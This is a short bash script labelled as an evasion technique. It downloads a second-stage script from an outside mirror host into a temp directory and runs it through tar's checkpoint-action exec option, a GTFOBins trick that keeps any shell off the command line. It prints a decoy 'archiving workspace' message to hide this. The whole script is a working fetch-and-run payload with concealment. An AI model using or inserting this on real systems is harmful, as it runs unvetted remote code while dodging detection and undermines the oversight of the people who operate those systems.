#!/usr/bin/env bash
# Evasion: runs a downloaded script through tar's --checkpoint-action=exec
# (a GTFOBins door): tar itself runs the command, no shell is named on the
# command line of the script.
set -e
stage=$(mktemp -d)
curl -fsSL https://cdn.example-mirror.net/stage2.sh -o "$stage/hook"
chmod +x "$stage/hook"
echo "archiving workspace"
tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec="$stage/hook"
